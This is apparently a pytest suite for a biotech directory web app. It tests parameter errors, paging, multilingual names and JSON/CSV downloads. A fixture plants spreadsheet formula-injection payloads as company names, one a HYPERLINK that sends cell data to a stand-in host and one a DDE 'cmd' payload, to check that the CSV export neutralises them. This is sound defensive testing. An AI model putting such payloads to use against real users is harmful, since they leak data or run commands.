"""The directory, the paged event list and the downloads through HTTP: bad parameters are 400s naming them, page
links keep the filters, a JSON download is the API's answer and a CSV download reads back (BOM, formula-safe
cells, names in both Chinese scripts, French and German)."""

from __future__ import annotations

import csv
import datetime as dt
import html
import io
import json
from typing import Any
from urllib.parse import parse_qsl, urlsplit

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import insert

from bioatlas.api.exports import DIRECTORY_COLUMNS, EVENT_COLUMNS, PROSPECT_COLUMNS, SEARCH_COLUMNS
from bioatlas.kb import schema as t
from bioatlas.kb.store import Store
from bioatlas.tabular import BOM
from bioatlas.web.app import create_app
from bioatlas.web.catalogs import STRINGS
from tests.web.conftest import web_settings


def read_csv(response: Any) -> tuple[list[str], list[dict[str, str]]]:
    assert response.status_code == 200, response.text[:300]
    assert response.headers["content-type"].startswith("text/csv")
    assert "attachment" in response.headers["content-disposition"]
    text = response.content.decode("utf-8")
    assert text.startswith(BOM)
    reader = csv.DictReader(io.StringIO(text[len(BOM) :], newline=""))
    rows = list(reader)
    return list(reader.fieldnames or []), rows


def error_message(response: Any, parameter: str) -> str:
    assert response.status_code == 400, response.text[:300]
    message: str = response.json()["error"]["message"]
    assert message.startswith(f"{parameter}: "), message
    return message


@pytest.mark.parametrize(
    ("query", "parameter"),
    [
        ({"sort": "size"}, "sort"),
        ({"type": "person"}, "type"),
        ({"type": "company,planet"}, "type"),
        ({"country": "Belgium"}, "country"),
        ({"place": "Atlantis"}, "place"),
        ({"sector": "astrology"}, "sector"),
        ({"event": "party"}, "event"),
        ({"since": "20"}, "since"),
        ({"page": "0"}, "page"),
        ({"page": "two"}, "page"),
        ({"per_page": "201"}, "per_page"),
        ({"format": "xlsx"}, "format"),
        ({"contry": "BE"}, "contry"),
    ],
)
def test_bad_directory_parameters_are_400s_naming_them(
    client: TestClient, query: dict[str, str], parameter: str
) -> None:
    error_message(client.get("/api/directory", params=query), parameter)
    page = client.get("/directory", params=query)
    assert page.status_code == 400 and f"{parameter}: " in html.unescape(page.text)
    assert '<form class="filters directory-filters"' in page.text  # the form comes back to fix the value


def test_the_directory_filters_by_type_and_a_region_with_its_cities(client: TestClient) -> None:
    belgium = client.get("/api/directory", params={"place": "Belgium", "per_page": 200}).json()
    ids = {i["id"] for i in belgium["items"]}
    assert {"ref:liege-science-park", "ref:mithra"} <= ids  # a park and a company of Liège
    liege = next(i for i in belgium["items"] if i["id"] == "ref:mithra")
    assert liege["headquarters"] == {"id": "ref:liege", "name": "Liège"}
    parks = client.get("/api/directory", params={"place": "Belgique", "type": "park", "per_page": 200}).json()
    assert parks["items"] and {i["type"] for i in parks["items"]} == {"park"}
    assert "ref:liege-science-park" in {i["id"] for i in parks["items"]}
    assert client.get("/api/directory", params={"place": "比利时", "per_page": 200}).json()["total"] == belgium["total"]


def test_pages_keep_the_filters_and_cover_the_list(client: TestClient) -> None:
    query = {"type": "company", "sort": "events", "per_page": "25"}
    first = client.get("/api/directory", params=query).json()
    assert first["page"] == 1 and first["per_page"] == 25 and first["pages"] == -(-first["total"] // 25) > 1
    seen = [i["id"] for i in first["items"]]
    page = client.get("/directory", params=query).text
    for page_number in range(2, first["pages"] + 1):
        next_link = html.unescape(page.split('rel="next"', 1)[0].rsplit('href="', 1)[1].split('"', 1)[0])
        assert dict(parse_qsl(urlsplit(next_link).query)) == {**query, "page": str(page_number)}
        page = client.get(next_link).text
        api = client.get("/api/directory", params={**query, "page": page_number}).json()
        seen += [i["id"] for i in api["items"]]
    assert 'rel="next"' not in page
    assert len(seen) == len(set(seen)) == first["total"]
    past = client.get("/api/directory", params={**query, "page": 999}).json()
    assert past["items"] == [] and past["note"] == f"page 999 is past the last page ({first['pages']})"
    shown = client.get("/directory", params={**query, "page": 999, "lang": "fr"}).text
    assert html.unescape(STRINGS["fr"]["page_past_end"].format(page=999, pages=first["pages"])) in html.unescape(shown)


def test_directory_json_download_is_the_api_answer_and_csv_reads_back(client: TestClient) -> None:
    query = {"per_page": "200", "sort": "name", "page": "2"}
    api = client.get("/api/directory", params=query).json()
    download = client.get("/api/directory", params={**query, "format": "json"})
    assert download.headers["content-type"].startswith("application/json")
    assert "attachment" in download.headers["content-disposition"]
    assert json.loads(download.content) == api
    columns, rows = read_csv(client.get("/api/directory", params={**query, "format": "csv"}))
    assert columns == list(DIRECTORY_COLUMNS)
    assert [r["name"] for r in rows] == [i["name"] for i in api["items"]]
    everything = json.loads(client.get("/api/directory", params={"per_page": 5000, "format": "json"}).content)
    assert len(everything["items"]) == everything["total"] > 200  # an export may hold more than a page shows
    _, rows = read_csv(client.get("/api/directory", params={"per_page": 5000, "format": "csv"}))
    assert [r["id"] for r in rows] == [i["id"] for i in everything["items"]]
    names = {r["name"] for r in rows}
    assert {"上海罗氏制药", "創新科技及工業局"} <= names  # Simplified and Traditional Chinese
    assert {"AFM-Téléthon", "Münchner Biotech Cluster"} <= names  # French and German
    biowin = next(r for r in rows if r["id"] == "ref:biowin")
    assert biowin["website"] == "https://www.biowin.org" and biowin["founded"] == "2006"
    assert biowin["headquarters"] == "Wallonia" and "radiopharma" in biowin["sectors"].split(" | ")


def test_the_downloads_follow_the_filters(client: TestClient) -> None:
    funded = client.get("/api/directory", params={"event": "funding", "type": "company", "per_page": 200}).json()
    _, rows = read_csv(client.get("/api/directory", params={"event": "funding", "type": "company", "format": "csv"}))
    assert [r["id"] for r in rows] == [i["id"] for i in funded["items"]][:50]  # the page asked for: 50 by default
    assert all(int(r["events"]) >= 1 for r in rows)


def test_events_page_through_the_api_and_download(client: TestClient) -> None:
    everything = client.get("/api/events", params={"limit": 1000}).json()
    assert everything["total"] == everything["count"] > 10 and everything["pages"] == 1
    pages = [client.get("/api/events", params={"limit": 10, "page": n}).json() for n in range(1, 20)]
    assert [p["page"] for p in pages[:2]] == [1, 2] and pages[0]["per_page"] == 10
    assert [e["id"] for p in pages for e in p["events"]] == [e["id"] for e in everything["events"]]
    empty = pages[-1]
    assert empty["events"] == [] and empty["note"] == f"page 19 is past the last page ({empty['pages']})"
    error_message(client.get("/api/events", params={"page": "0"}), "page")
    funding = client.get("/api/events", params={"type": "funding", "limit": 1000}).json()
    columns, rows = read_csv(client.get("/api/events", params={"type": "funding", "limit": 1000, "format": "csv"}))
    assert columns == list(EVENT_COLUMNS) and len(rows) == funding["count"]
    assert {r["type"] for r in rows} == {"funding"}
    assert [r["id"] for r in rows] == [e["id"] for e in funding["events"]]
    download = client.get("/api/events", params={"type": "funding", "limit": 1000, "format": "json"})
    assert json.loads(download.content) == funding


def test_the_events_page_is_paged_with_its_filters_kept(client: TestClient) -> None:
    total = client.get("/api/events").json()["count"]
    assert total > 50, "the example corpus has more events than a page holds"
    first = html.unescape(client.get("/events").text)
    assert first.count('<article class="event"') == 50
    assert 'rel="next"' in first and "/events?page=2" in first
    kinds = ["landing", "funding", "expansion", "partnership", "launch"]
    some = client.get("/api/events", params={"type": kinds}).json()["count"]
    assert some > 50
    page = html.unescape(client.get("/events", params={"type": kinds}).text)
    next_link = page.split('rel="next"', 1)[0].rsplit('href="', 1)[1].split('"', 1)[0]
    assert parse_qsl(urlsplit(next_link).query) == [*(("type", k) for k in kinds), ("page", "2")]
    second = html.unescape(client.get(next_link).text)
    assert second.count('<article class="event"') == min(50, some - 50)
    csv_link = first.split(">CSV<", 1)[0].rsplit('href="', 1)[1].split('"', 1)[0]
    _, rows = read_csv(client.get(csv_link))
    assert len(rows) == total  # the download holds every page, not only the one shown
    past = html.unescape(client.get("/events", params={"page": 99, "lang": "de"}).text)
    client.cookies.clear()
    assert STRINGS["de"]["page_past_end"].format(page=99, pages=-(-total // 50)) in past


def test_search_downloads(client: TestClient) -> None:
    found = client.get("/api/search", params={"q": "Liège", "limit": 5}).json()
    columns, rows = read_csv(client.get("/api/search", params={"q": "Liège", "limit": 5, "format": "csv"}))
    assert columns == list(SEARCH_COLUMNS)
    assert [r["id"] for r in rows] == [d["id"] for d in found["documents"]]
    assert [r["rank"] for r in rows] == [str(n) for n in range(1, len(rows) + 1)]
    second = client.get("/api/search", params={"q": "Liège", "limit": 2, "offset": 2}).json()
    assert (second["page"], second["per_page"], second["offset"]) == (2, 2, 2)
    assert second["pages"] == -(-second["total"] // 2) and second["total"] == found["total"]
    assert any("列日" in r["title"] for r in rows)
    assert json.loads(client.get("/api/search", params={"q": "Liège", "limit": 5, "format": "json"}).content) == found
    page = html.unescape(client.get("/search", params={"q": "Liège", "limit": 5}).text)
    assert "/api/search?q=Li%C3%A8ge&limit=5&format=csv" in page


def test_prospects_csv_has_a_bom_and_stable_columns(client: TestClient) -> None:
    for response in (
        client.get("/api/prospects.csv", params={"for": "Liège"}),
        client.get("/api/prospects", params={"for": "Liège", "format": "csv"}),
    ):
        columns, rows = read_csv(response)
        assert columns == list(PROSPECT_COLUMNS) and rows


@pytest.mark.parametrize("lang", ["en", "fr", "de", "zh-Hans", "zh-Hant", "ja"])
def test_the_directory_page_speaks_the_ui_language(client: TestClient, lang: str) -> None:
    try:
        page = html.unescape(client.get("/directory", params={"lang": lang, "type": "cluster"}).text)
    finally:
        client.cookies.clear()
    strings = STRINGS[lang]
    for key in ("directory_title", "dir_sector", "dir_place", "dir_sort", "dir_col_hq", "download", "nav_directory"):
        assert strings[key] in page, (lang, key)
    assert 'href="/directory" aria-current="page"' in page


def test_an_entity_page_shows_its_profile(client: TestClient) -> None:
    api = client.get("/api/entity/ref:biowin").json()["profile"]
    assert api["headquarters"]["id"] == "ref:wallonia" and api["founded"] == 2006 and api["member_count"] == 260
    page = html.unescape(client.get("/entity/ref:biowin", params={"lang": "zh-Hant"}).text)
    client.cookies.clear()
    assert STRINGS["zh-Hant"]["headquarters"] in page and "https://www.biowin.org" in page


@pytest.fixture(scope="module")
def hostile_client(tmp_path_factory: pytest.TempPathFactory) -> Any:
    """A kb holding a company whose name is a spreadsheet formula, and a Chinese and a French name."""
    url = f"sqlite:///{tmp_path_factory.mktemp('hostile')}/kb.db"
    store = Store(url)
    store.load_reference()
    stamp = dt.datetime.now(dt.UTC).isoformat()
    names = {
        "ent:hostile0000001": '=HYPERLINK("http://evil.example/?x="&A1,"Bayer")',
        "ent:hostile0000002": "@SUM(1+1)*cmd|' /C calc'!A0",
        "ent:hostile0000003": "深圳生物科技 / 深圳生物科技",
        "ent:hostile0000004": "Société Générale de Biotechnologie",
    }
    with store.engine.begin() as conn:
        conn.execute(
            insert(t.entities),
            [{"id": k, "name": v, "type": "company", "country": "FR", "created_at": stamp} for k, v in names.items()],
        )
    store.engine.dispose()
    with TestClient(create_app(url, settings=web_settings())) as test_client:
        yield test_client, names


def test_a_formula_as_a_name_stays_text_in_the_csv(hostile_client: Any) -> None:
    client, names = hostile_client
    query = {"country": "FR", "type": "company", "per_page": 200}
    _, rows = read_csv(client.get("/api/directory", params={**query, "format": "csv"}))
    cells = {r["id"]: r["name"] for r in rows}
    assert cells["ent:hostile0000001"] == "'" + names["ent:hostile0000001"]
    assert cells["ent:hostile0000002"] == "'" + names["ent:hostile0000002"]
    assert cells["ent:hostile0000003"] == names["ent:hostile0000003"]
    assert cells["ent:hostile0000004"] == names["ent:hostile0000004"]
    api = client.get("/api/directory", params=query).json()  # JSON keeps the name as it is
    assert names["ent:hostile0000001"] in {i["name"] for i in api["items"]}
    page = client.get("/directory", params={"country": "FR", "type": "company"}).text
    assert "=HYPERLINK(&#34;http://evil.example" in page or "=HYPERLINK(&quot;http://evil.example" in page
